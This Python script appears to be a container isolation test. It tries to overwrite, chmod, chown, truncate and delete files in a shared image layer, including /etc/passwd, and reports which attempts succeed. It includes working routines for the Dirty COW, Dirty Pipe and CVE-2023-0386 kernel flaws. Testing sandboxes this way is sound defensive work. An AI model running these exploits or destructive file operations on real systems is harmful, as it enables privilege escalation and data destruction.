# Writes to files of the image, which are a shared layer below, in every way there is; or, told to "read", prints what
# they hash to, as whoever looks sees them.
import ctypes, errno, hashlib, json, mmap, os, stat, sys

how, targets = sys.argv[1], sys.argv[2:] or [os.path.realpath(sys.executable), os.__file__, "/etc/passwd"]
found = {}


def attempt(name, act):
    try:
        act()
        found[name] = "OK"
    except (OSError, ValueError) as error:
        found[name] = errno.errorcode.get(getattr(error, "errno", None), type(error).__name__)


def write(path):
    with open(path, "r+b") as file:
        file.write(b"attacked")


def shared_mapping(path):
    fd = os.open(path, os.O_RDWR)
    with mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE) as view:
        view[0:8] = b"attacked"
        view.flush()


def own_memory(path):
    # Dirty COW's way: a private mapping that may not be written, written through /proc/self/mem.
    fd = os.open(path, os.O_RDONLY)
    view = mmap.mmap(fd, 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
    address = int(next(line for line in open("/proc/self/maps") if path in line and " r--p 00000000" in line).split("-")[0], 16)
    memory = os.open("/proc/self/mem", os.O_RDWR)
    os.lseek(memory, address, os.SEEK_SET)
    os.write(memory, b"attacked")
    view.close()
    with open(path, "rb") as file:
        if not file.read(8) == b"attacked":
            raise OSError(errno.EPERM, "only the copy")


def dirty_pipe(path):
    # CVE-2022-0847: a page of the page cache that a pipe refers to, still flagged as one that may be merged into.
    read, write_end = os.pipe()
    size = 65536
    os.write(write_end, b"x" * size)
    os.read(read, size)
    fd = os.open(path, os.O_RDONLY)
    before = os.pread(fd, 16, 0)
    os.splice(fd, write_end, 1, offset_src=0)
    os.write(write_end, b"attacked")
    if os.pread(fd, 16, 0) == before:
        raise OSError(errno.EPERM, "unchanged")


def rename_over(path):
    with open(path + ".new", "wb") as file:
        file.write(b"attacked")
    os.rename(path + ".new", path)


if how == "read":
    print(json.dumps({path: hashlib.sha256(open(path, "rb").read()).hexdigest() for path in targets}))
    sys.exit()
for path in targets:
    attempt(f"memory {path}", lambda: own_memory(path))
    if hasattr(os, "splice"):
        attempt(f"pipe {path}", lambda: dirty_pipe(path))
    attempt(f"mapping {path}", lambda: shared_mapping(path))
    # CVE-2023-0386: a copy that keeps its setuid bit and its owner.
    attempt(f"setuid {path}", lambda: os.chmod(path, 0o6755))
    attempt(f"owner {path}", lambda: os.chown(path, 1000, 1000))
    attempt(f"write {path}", lambda: write(path))
    attempt(f"truncate {path}", lambda: os.truncate(path, 0))
    attempt(f"rename {path}", lambda: rename_over(path))
    attempt(f"unlink {path}", lambda: os.unlink(path))
if not sys.argv[2:]:
    attempt("new file", lambda: open("/oncebox-was-here", "w").close())
    attempt("whiteout", lambda: os.mknod("/etc/oncebox-was-here", stat.S_IFCHR | 0o600, 0))
print(json.dumps(found))
